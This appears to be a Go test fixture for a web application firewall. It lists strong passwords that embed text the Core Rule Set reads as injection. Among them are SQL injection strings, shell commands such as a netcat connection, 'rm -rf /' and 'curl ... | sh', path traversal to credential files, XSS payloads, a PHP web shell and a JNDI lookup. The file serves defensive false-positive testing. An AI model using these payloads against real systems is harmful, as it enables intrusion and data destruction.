package waf

// passwordSamples are strong passwords that contain text the CRS reads
// as SQL, shell, path, script, template or PHP injection.
var passwordSamples = []string{
	// SQL-like
	"' OR '1'='1' --Aa9", "Robert'); DROP TABLE Students;--9", "1' UNION SELECT password FROM users--Z",
	"admin'--#Pw9long!", `x" or ""="Aa1!zz`, "SELECT * FROM t WHERE 1=1;Zz9", "1;WAITFOR DELAY '0:0:5'--Aa",
	"Pa55' AND SLEEP(5)#x", "x'||(select 1)||'Q9z",
	// shell-like
	";cat /etc/passwd Aa9!", "$(whoami)Aa1!long", "`id`Xy9!longer", "| nc 10.0.0.1 4444 Aa9", "&& rm -rf / Aa9zz",
	"${IFS}cat${IFS}Aa9z", "Aa9;curl http://x.y/z|sh", "x;ping -c 1 127.0.0.1;Q9",
	// path-like
	"../../../etc/passwd#A9", `..\..\windows\win.ini A9`, "/etc/shadow#Aa1zzz", `C:\boot.ini Aa9zz!`, "file:///etc/hosts A9z",
	"/proc/self/environ A9z",
	// script-like
	"<script>alert(1)</script>A9", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)Aa9z", "<svg/onload=x>Aa9zz",
	"<iframe src=//x>Aa9", "onmouseover=alert(1)//A9",
	// other injection-like text
	"<?php system($_GET[c]); ?>A9", "${jndi:ldap://x/a}Aa9z", "{{7*7}}Aa9zzzzz", "eval(atob('eA=='))A9z",
	"require('child_process')A9", "java.lang.Runtime A9zz", "%00Aa9zzzzzzz",
}
